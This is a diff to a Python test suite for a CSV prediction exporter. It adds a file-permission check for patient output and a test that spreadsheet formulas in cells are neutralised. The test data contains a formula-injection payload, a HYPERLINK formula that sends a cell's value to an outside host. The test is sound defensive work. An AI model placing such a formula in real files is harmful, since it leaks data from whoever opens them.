@@ -178,6 +178,7 @@ def test_rows_of_a_table_by_column_name(heart: Path, tmp_path: Path) -> None:
     assert "bad: TF-824: Expected 0 or 1 for 'sex', but got '2'; Expected a number for 'chol'" in made.stderr
     assert "line 6: TF-824: Expected 14 values, as the header has, but got 1" in made.stderr
     model = tightframe.load_model(heart)
+    assert (tmp_path / "out.csv").stat().st_mode & 0o777 == 0o600, "it tells of patients"
     found = rows(tmp_path / "out.csv")
     assert [row["input"] for row in found] == [f"p{i}" for i in range(6)]
     np.testing.assert_array_equal(probabilities(found, model), model.predict_proba(expected))
@@ -418,3 +419,19 @@ def test_an_answers_codes_need_no_titles_and_a_title_may_have_a_semicolon() -> N
     found = np.array([0.9, 0.8])
     made = predictions.Predicted("p", found, predictions.answers(several, found, None))
     assert next(csv.reader([predictions.line(several, made, None)]))[3:5] == ["edema; mild;nodule", "e;n"]
+
+
+def test_no_cell_is_carried_out_as_a_formula_by_a_spreadsheet() -> None:
+    """A class is named by who writes the job, a file or a row by whoever gave the record."""
+    evil = '=HYPERLINK("http://example.org/"&A1)'
+    job = SimpleNamespace(
+        dataset_options={"contract": {"label": {"classes": [{"code": "+c", "title": evil}]}}}
+    )
+    model: Any = SimpleNamespace(
+        setup=SimpleNamespace(job=job), class_names=(evil,), hash="h", findings=False
+    )
+    made = predictions.Predicted("@SUM(1)", np.array([-1e-300]), (evil,))
+    cells = next(csv.reader([predictions.line(model, made, OperatingPoint(evil, 0.5))]))
+    assert cells == ["'@SUM(1)", "-1e-300", f"'{evil}", "'+c", f"'{evil}>=0.5", "h"]
+    heads = next(csv.reader([predictions.header(model, None)]))
+    assert heads == ["input", f"p_{evil}", "answer", "answer_code", "model_sha256"]
